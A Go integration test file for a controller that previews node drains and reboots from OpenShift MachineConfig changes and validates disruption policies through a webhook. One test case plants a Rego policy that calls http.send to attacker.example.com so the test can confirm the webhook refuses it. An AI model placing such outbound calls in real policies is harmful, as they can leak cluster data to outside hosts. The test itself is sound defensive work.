package cluster

import (
	"context"
	"strings"
	"testing"

	configv1 "github.com/openshift/api/config/v1"
	mcfgv1 "github.com/openshift/api/machineconfiguration/v1"
	operatorv1alpha1 "github.com/openshift/api/operator/v1alpha1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	ndpmcv1 "github.com/ndp-dev/ndp/apis/machineconfiguration/v1"
	"github.com/ndp-dev/ndp/apis/v1alpha1"
	"github.com/ndp-dev/ndp/internal/testkit"
	"github.com/ndp-dev/ndp/policies"
)

const chronyMC = `apiVersion: machineconfiguration.openshift.io/v1
kind: MachineConfig
metadata:
  name: 50-preview-chrony
  labels: {machineconfiguration.openshift.io/role: preview}
spec:
  osImageURL: quay.io/os@sha256:1
  config:
    ignition: {version: 3.4.0}
    storage:
      files:
      - path: /etc/chrony.conf
        contents: {source: "data:,pool%20ntp.example.com%20iburst"}
`

// The administrator's view: a server dry-run of a MachineConfig prints,
// per pool, what the nodes would do; nothing is written.
func TestMachineConfigDryRunPrintsThePlan(t *testing.T) {
	target := previewPool(t, "preview", 3)
	p := newPolicy("preview-chrony", chronySpec())
	create(t, p)
	waitCondition(t, "preview-chrony", v1alpha1.ConditionAccepted, metav1.ConditionTrue)

	renderedBefore := renderedCount(t, "preview")
	out, err := kubectlFile(t, chronyMC, "apply", "--dry-run=server")
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	want := "Warning: pool preview, 3 nodes: Restart chronyd.service, no drain, no reboot (policy preview-chrony)"
	if !strings.Contains(out, want) || !strings.Contains(out, "(server dry run)") {
		t.Errorf("kubectl apply --dry-run=server printed:\n%s\nwant the line %q", out, want)
	}
	mustNotExist(t, &ndpmcv1.MachineConfig{ObjectMeta: metav1.ObjectMeta{Name: "50-preview-chrony"}})
	var pool mcfgv1.MachineConfigPool
	if err := k8s.Get(context.Background(), client.ObjectKey{Name: "preview"}, &pool); err != nil || pool.Spec.Configuration.Name != target {
		t.Errorf("the pool's target moved: %s (%v)", pool.Spec.Configuration.Name, err)
	}
	if n := renderedCount(t, "preview"); n != renderedBefore {
		t.Errorf("the dry-run rendered: %d rendered configs, %d before", n, renderedBefore)
	}

	// The preview follows the active policies: without this one, chrony
	// needs the default's reboot.
	if err := k8s.Delete(context.Background(), p); err != nil {
		t.Fatal(err)
	}
	testkit.Until(t, "the policy leaves the active set", func() bool { _, ok := active.Get("preview-chrony"); return !ok })
	out, err = kubectlFile(t, chronyMC, "apply", "--dry-run=server")
	printed(t, "without the policy", "Warning: pool preview, 3 nodes: Reboot, drains 3 nodes, reboots 3 nodes (unclaimed: file /etc/chrony.conf: added)", out, err)

	// Applying a MachineConfig as it is changes nothing, and says so.
	current, err := kubectl(t, "get", "machineconfig", "00-preview-base", "-o", "yaml")
	if err != nil {
		t.Fatal(err)
	}
	out, err = kubectlFile(t, current, "apply", "--dry-run=server")
	printed(t, "re-applying the base config", "Warning: pool preview, 3 nodes: no change to the rendered config, no node is updated", out, err)

	// Deleting a MachineConfig is previewed too: without its base config
	// the pool loses a file and its OS image.
	out, err = kubectl(t, "delete", "--dry-run=server", "machineconfig", "00-preview-base")
	printed(t, "deleting the base config", "Warning: pool preview, 3 nodes: Reboot, drains 3 nodes, reboots 3 nodes (policy default; unclaimed: file /etc/kubernetes/kubelet.conf: removed)", out, err)

	// Nodes on two configs: one plan each.
	older := renderedMC("rendered-preview-older", "compute").Build()
	create(t, older)
	create(t, node("preview-d", "preview", older.Name))
	out, err = kubectlFile(t, chronyMC, "apply", "--dry-run=server")
	if err != nil || !strings.Contains(out, "pool preview, 4 nodes: 3 nodes from "+target+": Reboot, drains 3 nodes") || !strings.Contains(out, "; 1 node from rendered-preview-older: ") {
		t.Errorf("with nodes on two configs, printed (%v):\n%s", err, out)
	}
}

// Deleting an image-mirror set tells how many nodes it drains.
func TestImageMirrorDryRunPrintsTheDrain(t *testing.T) {
	before := previewPool(t, "mirrors", 3)
	idms := `apiVersion: config.openshift.io/v1
kind: ImageDigestMirrorSet
metadata: {name: preview-mirror}
spec:
  imageDigestMirrors:
  - source: registry.example.com/team
    mirrors: [mirror.example.com/team]
`
	out, err := kubectlFile(t, idms, "apply", "--dry-run=server")
	printed(t, "creating an IDMS", "Warning: creating ImageDigestMirrorSet preview-mirror: pool mirrors, 3 nodes: Reload crio.service, no drain, no reboot (policy default: only digest-only mirrors or search registries were added, or mirrors made digest-only)", out, err)
	if out, err := kubectlFile(t, idms, "apply"); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	t.Cleanup(func() { _, _ = kubectl(t, "delete", "imagedigestmirrorset", "preview-mirror", "--ignore-not-found") })
	after := waitPool(t, "mirrors", func(p *mcfgv1.MachineConfigPool) bool { return p.Spec.Configuration.Name != before }).Spec.Configuration.Name
	testkit.SetNodeConfig(t, k8s, after, "mirrors-a", "mirrors-b", "mirrors-c")

	out, err = kubectl(t, "delete", "--dry-run=server", "imagedigestmirrorset", "preview-mirror")
	printed(t, "deleting the IDMS", "Warning: deleting ImageDigestMirrorSet preview-mirror: pool mirrors, 3 nodes: Reload crio.service, drains 3 nodes, no reboot (policy default: registry registry.example.com/team removed)", out, err)
	if _, err := kubectl(t, "get", "imagedigestmirrorset", "preview-mirror"); err != nil {
		t.Error("a dry-run deleted the IDMS")
	}

	// A tag mirror may serve other content than the source: drain. An
	// ImageContentSourcePolicy is a digest mirror, like an IDMS.
	for _, tc := range []struct {
		obj  client.Object
		want string
	}{
		{&configv1.ImageTagMirrorSet{ObjectMeta: metav1.ObjectMeta{Name: "preview-tags"}, Spec: configv1.ImageTagMirrorSetSpec{ImageTagMirrors: []configv1.ImageTagMirrors{
			{Source: "registry.example.com/tags", Mirrors: []configv1.ImageMirror{"mirror.example.com/tags"}}}}},
			"Warning: creating ImageTagMirrorSet preview-tags: pool mirrors, 3 nodes: Reload crio.service, drains 3 nodes, no reboot (policy default: mirror mirror.example.com/tags of registry.example.com/tags added with pull-from-mirror tag-only)"},
		{&operatorv1alpha1.ImageContentSourcePolicy{ObjectMeta: metav1.ObjectMeta{Name: "preview-icsp"}, Spec: operatorv1alpha1.ImageContentSourcePolicySpec{RepositoryDigestMirrors: []operatorv1alpha1.RepositoryDigestMirrors{
			{Source: "registry.example.com/legacy", Mirrors: []string{"mirror.example.com/legacy"}}}}},
			"Warning: creating ImageContentSourcePolicy preview-icsp: pool mirrors, 3 nodes: Reload crio.service, no drain, no reboot (policy default: only digest-only mirrors or search registries were added, or mirrors made digest-only)"},
	} {
		out, err := kubectlFile(t, manifest(t, tc.obj), "apply", "--dry-run=server")
		printed(t, "a dry-run create", tc.want, out, err)
	}

	// A mirror set registries.conf cannot hold is refused: a source never
	// to contact, mirrored by itself.
	out, err = kubectlFile(t, strings.ReplaceAll(idms, "mirror.example.com/team]", "registry.example.com/team]\n    mirrorSourcePolicy: NeverContactSource"), "apply")
	if err == nil || !strings.Contains(out, "is the source itself") {
		t.Errorf("a self-mirror was not refused (%v):\n%s", err, out)
	}
}

// A change no node can apply in place is refused, naming the field.
func TestUnreconcilableMachineConfigIsRefused(t *testing.T) {
	previewPool(t, "disks", 2)
	disk := `apiVersion: machineconfiguration.openshift.io/v1
kind: MachineConfig
metadata:
  name: 60-disks-data
  labels: {machineconfiguration.openshift.io/role: disks}
spec:
  config:
    ignition: {version: 3.4.0}
    storage:
      disks: [{device: /dev/vdb, wipeTable: true}]
`
	out, err := kubectlFile(t, disk, "apply")
	if err == nil || !strings.Contains(out, `denied the request: MachineConfig "60-disks-data" cannot be applied in place`) || !strings.Contains(out, "pool disks, from rendered-disks-") || !strings.Contains(out, "spec.config.storage.disks") {
		t.Errorf("kubectl apply of a disk MachineConfig (%v):\n%s", err, out)
	}
	mustNotExist(t, &ndpmcv1.MachineConfig{ObjectMeta: metav1.ObjectMeta{Name: "60-disks-data"}})

	old := strings.ReplaceAll(strings.ReplaceAll(disk, "3.4.0", "2.2.0"), "60-disks-data", "60-disks-old")
	out, err = kubectlFile(t, old, "apply", "--dry-run=server")
	if err == nil || !strings.Contains(out, `MachineConfig "60-disks-old": spec.config.ignition.version: unsupported config version "2.2.0"`) {
		t.Errorf("kubectl apply of an Ignition 2.2.0 MachineConfig (%v):\n%s", err, out)
	}
}

// As the MCO: a config writing the daemon's control files or locking the
// core user out is refused, naming the field; a LUKS change is accepted and
// planned None, saying why.
func TestMCOParityRefusalsAndLUKS(t *testing.T) {
	previewPool(t, "parity", 2)
	testkit.Until(t, "the default policy is active", func() bool { _, ok := active.Get(policies.DefaultPolicyName); return ok })
	mc := func(name, config string) string {
		return "apiVersion: machineconfiguration.openshift.io/v1\nkind: MachineConfig\nmetadata:\n  name: " + name +
			"\n  labels: {machineconfiguration.openshift.io/role: parity}\nspec:\n  config:\n    ignition: {version: 3.4.0}\n" + config
	}
	force := mc("60-parity-force", "    storage:\n      files: [{path: /run/machine-config-daemon-force, contents: {source: 'data:,'}}]\n")
	out, err := kubectlFile(t, force, "apply", "--dry-run=server")
	if err == nil || !strings.Contains(out, `MachineConfig "60-parity-force" cannot be applied in place`) ||
		!strings.Contains(out, "spec.config.storage.files[path=/run/machine-config-daemon-force]: is a control file of the node daemon") {
		t.Errorf("a MachineConfig writing the MCO's force file (%v):\n%s", err, out)
	}
	journal := mc("60-parity-journal", "    storage:\n      files: [{path: /etc/ndp/journal.json, contents: {source: 'data:,x'}}]\n")
	out, err = kubectlFile(t, journal, "apply", "--dry-run=server")
	if err == nil || !strings.Contains(out, "spec.config.storage.files[path=/etc/ndp/journal.json]: is a control file of the node daemon") {
		t.Errorf("a MachineConfig writing ndp's journal (%v):\n%s", err, out)
	}

	// Keys in place, then a MachineConfig whose removal would leave core
	// with none: deleting it is refused, replacing the key is not.
	keys := mc("70-parity-ssh", "    passwd:\n      users: [{name: core, sshAuthorizedKeys: ['ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIParity admin@example']}]\n")
	if out, err := kubectlFile(t, keys, "apply"); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	waitPool(t, "parity", func(p *mcfgv1.MachineConfigPool) bool { return len(p.Spec.Configuration.Source) == 3 })
	out, err = kubectl(t, "delete", "--dry-run=server", "machineconfig", "70-parity-ssh")
	if err == nil || !strings.Contains(out, "spec.config.passwd.users[name=core]: would be left with no SSH key and no password hash") {
		t.Errorf("deleting the only SSH key (%v):\n%s", err, out)
	}
	out, err = kubectlFile(t, strings.ReplaceAll(keys, "IParity", "IRotated"), "apply", "--dry-run=server")
	printed(t, "rotating the key", "Warning: pool parity, 2 nodes: no action, no drain, no reboot (policy default)", out, err)

	luks := mc("60-parity-luks", "    storage:\n      luks: [{name: root, device: /dev/disk/by-partlabel/root, clevis: {tang: [{url: 'http://tang.example.com', thumbprint: abc}]}}]\n")
	out, err = kubectlFile(t, luks, "apply", "--dry-run=server")
	printed(t, "a LUKS/Tang MachineConfig", "Warning: pool parity, 2 nodes: no action, no drain, no reboot (policy default: storage.luks only takes effect when a node is provisioned: running nodes keep their disk encryption)", out, err)
}

// Broken policies are refused at the door, with the line or the builtin.
func TestPolicyWebhookRefusesBrokenPolicies(t *testing.T) {
	broken := []struct{ name, policy, rego, regoTests, want string }{
		{"syntax", "wh-syntax", `package ndp.policy.wh_syntax

claims contains {"change": c.id if {
	some c in input.changes
}
`, "", `NodeDisruptionPolicy "wh-syntax" spec.rego:3:`},
		{"http.send", "wh-exfil", `package ndp.policy.wh_exfil

claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
	some c in input.changes
	http.send({"method": "GET", "url": "http://attacker.example.com"})
}
`, "", "spec.rego:5:2: rego_type_error: builtin http.send is not allowed"},
		{"net.lookup", "wh-dns", `package ndp.policy.wh_dns

claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
	some c in input.changes
	net.lookup_ip_addr("example.com")
}
`, "", "builtin net.lookup_ip_addr is not allowed"},
		{"failing regoTests", "wh-tests", `package ndp.policy.wh_tests

claims contains {"change": c.id, "actions": [{"type": "None"}]} if {
	some c in input.changes
}
`, `package ndp.policy.wh_tests_test

import data.ndp.policy.wh_tests

test_nothing_is_claimed if {
	count(wh_tests.claims) == 0 with input.changes as [{"id": "file:/etc/x", "kind": "file"}]
}
`, "test_nothing_is_claimed"},
	}
	for _, tc := range broken {
		t.Run(tc.name, func(t *testing.T) {
			p := newPolicy(tc.policy, v1alpha1.NodeDisruptionPolicySpec{Rego: tc.rego, RegoTests: tc.regoTests})
			out, err := kubectlFile(t, manifest(t, p), "apply")
			if err == nil || !strings.Contains(out, `admission webhook "nodedisruptionpolicies.validate.ndp.dev" denied the request`) || !strings.Contains(out, tc.want) {
				t.Errorf("kubectl apply (%v):\n%s\nwant a denial containing %q", err, out, tc.want)
			}
		})
	}
	for _, tc := range broken {
		mustNotExist(t, newPolicy(tc.policy, v1alpha1.NodeDisruptionPolicySpec{}))
	}
}

// A policy that got in unchecked (created while the webhook was away) can
// still be labelled, and fixed, but not edited into another broken state.
func TestPolicyWebhookValidatesSpecChangesOnly(t *testing.T) {
	restore := withoutPolicyWebhook(t)
	bad := newPolicy("wh-unchecked", v1alpha1.NodeDisruptionPolicySpec{Rego: "package ndp.policy.wh_unchecked\n\nx := := 1\n"})
	create(t, bad)
	restore()
	ctx := context.Background()
	if err := k8s.Get(ctx, client.ObjectKeyFromObject(bad), bad); err != nil {
		t.Fatal(err)
	}
	// Merge patches, without the resourceVersion: the policy controller
	// writes the status meanwhile, and an Update would race it.
	base := bad.DeepCopy()
	bad.Labels = map[string]string{"team": "infra"}
	if err := k8s.Patch(ctx, bad, client.MergeFrom(base)); err != nil {
		t.Errorf("a label change was refused: %v", err)
	}
	base = bad.DeepCopy()
	bad.Spec.Rego = "package ndp.policy.wh_unchecked\n\ny := := 2\n"
	if err := k8s.Patch(ctx, bad, client.MergeFrom(base)); err == nil || !strings.Contains(err.Error(), `NodeDisruptionPolicy "wh-unchecked" spec.rego:3:`) {
		t.Errorf("a broken spec edit: %v", err)
	}
	if err := k8s.Get(ctx, client.ObjectKeyFromObject(bad), bad); err != nil {
		t.Fatal(err)
	}
	base = bad.DeepCopy()
	bad.Spec.Rego = "package ndp.policy.wh_unchecked\n\nclaims := set()\n"
	if err := k8s.Patch(ctx, bad, client.MergeFrom(base)); err != nil {
		t.Errorf("the fix was refused: %v", err)
	}
	waitCondition(t, "wh-unchecked", v1alpha1.ConditionAccepted, metav1.ConditionTrue)
}

// With ndp-controller down, MachineConfigs still apply (the preview fails
// open) and NodeDisruptionPolicies do not (validation fails closed).
func TestWebhookDownFailsOpenForPreviewsAndClosedForPolicies(t *testing.T) {
	previewPool(t, "preview", 1)
	stopReplica()
	restarted := false
	defer func() {
		if !restarted {
			if err := startReplica(); err != nil {
				t.Fatal(err)
			}
		}
	}()

	out, err := kubectlFile(t, chronyMC, "apply", "--dry-run=server")
	if err != nil || strings.Contains(out, "Warning: pool") || !strings.Contains(out, "created (server dry run)") {
		t.Errorf("with the webhook down, a MachineConfig dry-run (%v):\n%s", err, out)
	}
	valid := manifest(t, newPolicy("wh-down", chronySpec()))
	out, err = kubectlFile(t, valid, "apply")
	if err == nil || !strings.Contains(out, `failed calling webhook "nodedisruptionpolicies.validate.ndp.dev"`) {
		t.Errorf("with the webhook down, a NodeDisruptionPolicy (%v):\n%s", err, out)
	}
	mustNotExist(t, &v1alpha1.NodeDisruptionPolicy{ObjectMeta: metav1.ObjectMeta{Name: "wh-down"}})

	restarted = true
	if err := startReplica(); err != nil {
		t.Fatal(err)
	}
	out, err = kubectlFile(t, valid, "apply")
	if err != nil {
		t.Fatalf("after the restart (%v):\n%s", err, out)
	}
	t.Cleanup(func() { _, _ = kubectl(t, "delete", "nodedisruptionpolicy", "wh-down") })
	waitCondition(t, "wh-down", v1alpha1.ConditionAccepted, metav1.ConditionTrue)
}

// A single-node cluster is never drained, and the preview says so; a
// second node changes the answer.
func TestSingleNodePreviewNeverDrains(t *testing.T) {
	testkit.Until(t, "the nodes of earlier tests are gone", func() bool {
		var nodes corev1.NodeList
		return k8s.List(context.Background(), &nodes) == nil && len(nodes.Items) == 0
	})
	previewPool(t, "sno", 1)
	mc := strings.ReplaceAll(strings.ReplaceAll(chronyMC, "role: preview", "role: sno"), "50-preview-chrony", "50-sno-chrony")
	out, err := kubectlFile(t, mc, "apply", "--dry-run=server")
	printed(t, "single node", "Warning: pool sno, 1 node: Reboot, no drain, reboots 1 node", out, err)
	create(t, node("other-0", "other", "rendered-other-x"))
	testkit.Until(t, "the preview drains once there are two nodes", func() bool {
		out, err := kubectlFile(t, mc, "apply", "--dry-run=server")
		return err == nil && strings.Contains(out, "Warning: pool sno, 1 node: Reboot, drains 1 node, reboots 1 node")
	})
}

// What the render controller refuses (machineconfig.Validate, the MCO's
// ValidateMachineConfig), the webhook refuses at the door with the same
// message: an unsupported extension, a setuid file.
func TestWebhookRefusesWhatRenderRefuses(t *testing.T) {
	previewPool(t, "valid", 1)
	mc := func(name, spec string) string {
		return "apiVersion: machineconfiguration.openshift.io/v1\nkind: MachineConfig\nmetadata:\n  name: " + name +
			"\n  labels: {machineconfiguration.openshift.io/role: valid}\nspec:\n" + spec
	}
	for _, tc := range []struct{ name, spec, want string }{
		{"50-valid-ext", "  extensions: [usbguard, foo]\n",
			`MachineConfig "50-valid-ext": spec.extensions[1]: unsupported extension "foo" (supported: ipsec, kerberos, kernel-devel, sandboxed-containers, sysstat, two-node-ha, usbguard, wasm)`},
		{"50-valid-suid", "  config:\n    ignition: {version: 3.4.0}\n    storage:\n      files: [{path: /usr/local/bin/x, mode: 2541, contents: {source: 'data:,'}}]\n",
			`MachineConfig "50-valid-suid": spec.config.storage.files[path=/usr/local/bin/x].mode: 04755 has the setuid bit`},
	} {
		out, err := kubectlFile(t, mc(tc.name, tc.spec), "apply", "--dry-run=server")
		if err == nil || !strings.Contains(out, tc.want) {
			t.Errorf("%s (%v):\n%s", tc.name, err, out)
		}
	}
}
